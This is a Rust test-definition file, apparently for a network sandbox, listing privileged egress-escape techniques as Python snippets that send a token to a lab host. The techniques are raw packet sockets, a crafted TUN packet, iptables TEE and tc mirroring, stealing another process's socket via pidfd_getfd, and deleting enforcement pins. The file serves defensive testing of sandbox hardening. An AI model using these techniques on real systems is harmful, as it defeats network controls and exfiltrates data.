//! Ways out that need a privilege, which `harden` takes from what `gateway run` starts.
use super::{Stage, Way, rare, root};

pub(super) const WAYS: &[Way] = &[
    root(
        5,
        "packet-socket",
        r#"
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
s.bind((device, 0))
s.send(b"\xff" * 6 + bytes(6) + b"\x88\xb5" + token)
"#,
    )
    .at(Stage::Hardened),
    rare(
        22,
        "tunnel-device",
        r#"
import fcntl
there = laboratory()
run("echo 1 >/proc/sys/net/ipv4/ip_forward")
tunnel = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(tunnel, 0x400454ca, struct.pack("16sH22x", b"tun0", 0x1001))
run("ip address add 10.9.9.1/24 dev tun0; ip link set tun0 up")
datagram = struct.pack("!HHHH", 9, port, 8 + len(token), 0) + token
header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 0, 0, 9, 17, 0,
    socket.inet_aton("10.9.9.2"), socket.inet_aton(there))
total = sum(struct.unpack("!10H", header))
total = (total & 0xffff) + (total >> 16)
os.write(tunnel, header[:10] + struct.pack("!H", 0xffff - total) + header[12:] + datagram)
time.sleep(0.2)
"#,
    )
    .at(Stage::Hardened),
    rare(
        24,
        "copied-by-netfilter",
        r#"
there = laboratory()
run(f"iptables -w -t mangle -A OUTPUT -o lo -j TEE --gateway {there}")
own = socket.create_server(("127.0.0.1", 0))
socket.create_connection(own.getsockname()).sendall(token)
time.sleep(0.2)
"#,
    )
    .at(Stage::Hardened),
    rare(
        24,
        "copied-by-tc",
        r#"
laboratory()
run("tc qdisc add dev lo clsact")
run("tc filter add dev lo egress matchall action mirred egress mirror dev lab0")
own = socket.create_server(("127.0.0.1", 0))
socket.create_connection(own.getsockname()).sendall(token)
time.sleep(0.2)
"#,
    )
    .at(Stage::Hardened),
    root(
        28,
        "socket-of-another-process",
        r#"
pid, number = where["holder"]
other = call(libc.syscall(434, pid, 0), "pidfd_open")
s = socket.socket(fileno=call(libc.syscall(438, other, number, 0), "pidfd_getfd"))
s.sendall(token)
"#,
    )
    .at(Stage::Hardened),
    root(
        37,
        "without-pins",
        r#"
if where["governed"]:
    for directory, _, names in os.walk(where["pins"]):
        for name in names:
            os.unlink(os.path.join(directory, name))
tcp((host, port))
"#,
    )
    .at(Stage::Hardened),
];
